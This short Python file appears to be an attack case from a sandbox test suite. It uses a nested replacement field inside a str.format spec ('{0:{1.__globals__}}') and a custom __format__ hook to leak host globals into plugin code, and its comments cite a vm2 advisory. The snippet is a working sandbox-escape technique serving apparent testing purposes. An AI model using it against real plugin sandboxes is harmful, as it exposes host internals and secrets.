# mypy: ignore-errors
# Technique: a replacement field nested in a format spec (`{0:{1.__globals__}}`): str.format
# resolves it and hands its str() to the outer value's __format__, which the plugin defines,
# so host globals reach plugin code even though the top-level fields are checked.
# Advisory: CVE-2023-37903 (vm2: a host routine (util.inspect) called a guest-defined hook
# with host data)
from suaveplan import fs


class Sink:
    def __format__(self, spec):
        print(spec[:400])
        return "x"


def attack(secret_path, canary_path):
    return "{0:{1.__globals__}}".format(Sink(), fs.read_text)
